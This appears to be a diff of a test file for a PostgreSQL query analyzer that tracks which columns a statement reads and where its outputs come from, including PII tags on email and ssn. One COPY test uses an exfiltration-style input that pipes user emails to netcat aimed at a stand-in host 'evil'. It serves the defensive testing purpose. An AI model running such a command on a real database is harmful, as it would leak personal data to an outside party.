@@ -76,6 +76,24 @@ describe('postgres columns: resolution', () => {
     ]);
   });
 
+  it('LATERAL subqueries see earlier FROM items; others do not', () => {
+    const s = stmt('SELECT x.e FROM users u, LATERAL (SELECT u.email AS e) x');
+    expect(cols(s)).toEqual(['read public.users.email']);
+    expect(s.outputs[0].sources).toEqual([{ table: 'public.users', column: 'email' }]);
+  });
+
+  it('TABLE t reads every column', () => {
+    const s = stmt('TABLE users', 0, { catalog: catalog() });
+    expect(s.outputs.map((o) => o.name)).toEqual(['id', 'email', 'full_name', 'ssn', 'org_id']);
+  });
+
+  it('function results in FROM are not tables and their columns not stored columns', () => {
+    const s = stmt('SELECT g, u.email FROM generate_series(1, 3) g, users u');
+    expect(s.tables.map((t) => t.name)).toEqual(['public.users']);
+    expect(cols(s)).toEqual(['read public.users.email']);
+    expect(s.outputs[0]).toMatchObject({ name: 'g', sources: [], shape: 'literal' });
+  });
+
   it('ORDER BY an output alias is not a column', () => {
     const s = stmt('SELECT lower(email) AS e FROM users ORDER BY e');
     expect(cols(s)).toEqual(['read public.users.email']);
@@ -186,11 +204,28 @@ describe('postgres outputs: provenance', () => {
     expect(s.outputs.map((o) => o.name)).toEqual(['x', 'b', 'now', 'c', 'text', '?column?', 'case']);
   });
 
-  it('output spans point at the item', () => {
-    const text = 'SELECT   email ,  lower(ssn) AS s FROM users';
+  it('output spans cover the whole item with its alias', () => {
+    const text = "SELECT   email ,  lower(ssn) AS s, CASE WHEN a THEN 'x, y' END /* , */ AS c, (1, 2) FROM users";
     const s = stmt(text);
-    expect(slice(text, s.outputs[0].span)).toBe('email');
-    expect(slice(text, s.outputs[1].span)).toBe('lower');
+    expect(s.outputs.map((o) => slice(text, o.span))).toEqual(['email', 'lower(ssn) AS s', "CASE WHEN a THEN 'x, y' END /* , */ AS c", '(1, 2)']);
+    const r = 'DELETE FROM t RETURNING id, a || b AS ab';
+    expect(stmt(r).outputs.map((o) => slice(r, o.span))).toEqual(['id', 'a || b AS ab']);
+  });
+
+  it('COPY to the client has outputs; to a file or program it has none', () => {
+    const s = stmt('COPY users (email, ssn) TO STDOUT');
+    expect(s.outputs.map((o) => [o.name, o.tags])).toEqual([
+      ['email', ['pii', 'email']],
+      ['ssn', ['pii', 'ssn']],
+    ]);
+    expect(stmt("COPY users (email) TO '/tmp/x'").outputs).toEqual([]);
+    expect(stmt("COPY (SELECT email FROM users) TO PROGRAM 'nc evil 1'").columns.map((c) => c.column)).toEqual(['email']);
+    expect(stmt('COPY (SELECT email FROM users) TO STDOUT').outputs[0]).toMatchObject({ name: 'email', from: 'select' });
+    expect(stmt('COPY users FROM STDIN').columns[0]).toMatchObject({ column: '*', access: 'write' });
+  });
+
+  it('EXPLAIN ANALYZE returns a plan, not rows', () => {
+    expect(stmt('EXPLAIN ANALYZE SELECT email FROM users').outputs).toEqual([]);
   });
 
   it('VALUES produce columnN outputs', () => {
